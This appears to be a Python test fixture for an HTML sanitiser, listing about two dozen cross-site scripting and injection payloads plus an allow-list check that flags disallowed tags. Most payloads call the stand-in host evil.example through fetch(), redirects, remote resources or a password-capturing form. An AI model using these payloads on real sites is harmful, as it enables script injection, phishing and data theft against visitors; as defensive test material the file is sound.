"""Pages that attack whoever looks at them; `MARK` is the host to which they want to connect."""

import re

MARK = "evil.example"
URL = f"http://{MARK}/x"
HOSTILE_PAGES = {
    "script": f"<script>fetch('{URL}')</script><SCRIPT src={URL}></SCRIPT>",
    "script in parts": f"<scr<script></script>ipt src={URL}></script>",
    "event handlers": f"<p onclick=\"location='{URL}'\" onmouseover='location=\"{URL}\"'>a</p><body onload=fetch('{URL}')>",
    "form": f"<form action={URL}><input name=password autofocus><button formaction={URL}>Sign in</button></form>",
    "style": f"<style>* {{ position: fixed; background: url({URL}) }} @import '{URL}';</style>",
    "covering style": f"<div style=\"position: fixed; inset: 0; z-index: 999; background: url('{URL}')\">a</div>",
    "iframe": f"<iframe src={URL}></iframe><iframe srcdoc='<script>fetch(\"{URL}\")</script>'></iframe><frame src={URL}>",
    "remote image": f"<img src={URL}><img srcset='{URL} 2x'><picture><source srcset={URL}></picture><input type=image src={URL}>",
    "image error": f"<img src=x onerror=fetch('{URL}')>",
    "media": f"<video poster={URL} src={URL}></video><audio src={URL}></audio><track src={URL}>",
    "meta refresh": f"<meta http-equiv=refresh content='0; url={URL}'>",
    "javascript link": f"<a href=\"javascript:fetch('{URL}')\">a</a><a href=' jAvA\tscript:location=\"{URL}\"'>b</a>",
    "data link": f"<a href=\"data:text/html,<script>location='{URL}'</script>\">a</a>",
    "ping": f"<a href={URL} ping={URL} target=_top>a</a><area href={URL}>",
    "base and links": f"<base href={URL}/><link rel=stylesheet href={URL}><link rel=preconnect href={URL}>",
    "object": f"<object data={URL}></object><embed src={URL}><applet code={URL}></applet>",
    "svg": f"<svg onload=fetch('{URL}')><image href={URL} /><use href={URL}#a /><style>@import '{URL}'</style></svg>",
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={URL} onerror=1&gt;"></math>',
    "comment": f"<!--><img src={URL} onerror=1>--><![CDATA[<img src={URL}>]]>",
    "raw text": f'<noscript><p title="</noscript><img src={URL} onerror=1>"></noscript><xmp><img src={URL}></xmp>',
    "table background": f'<table background={URL}><tr><td background={URL}>a</table><font face="{URL}">b</font>',
    "htmx": f"<div hx-get={URL} hx-trigger=load data-hx-post={URL}>a</div><p id=document class=desk-done>b</p>",
    "unclosed tags": "<p><b><i><table><tr><td><div><ul><li>never closed",
    "unclosed attribute": f'<p>a<img src="{URL}',
}
ALLOWED_TAG = re.compile(
    r"</?(?:p|div|blockquote|pre|[uo]l|li|d[ltd]|table|caption|t(?:head|body|foot|[rhd])|h[3-6]|hr|br|em|strong|[bius]|su[bp]|small|code)"
    r'(?: (?:col|row)span="[0-9]{1,2}")*>'
)


def harmful(html: str) -> list[str]:
    """The tags that are not among the few that may come out, without attributes."""
    return [tag for tag in re.findall(r"<[^\s\d][^<>]*>?", html) if not ALLOWED_TAG.fullmatch(tag)]
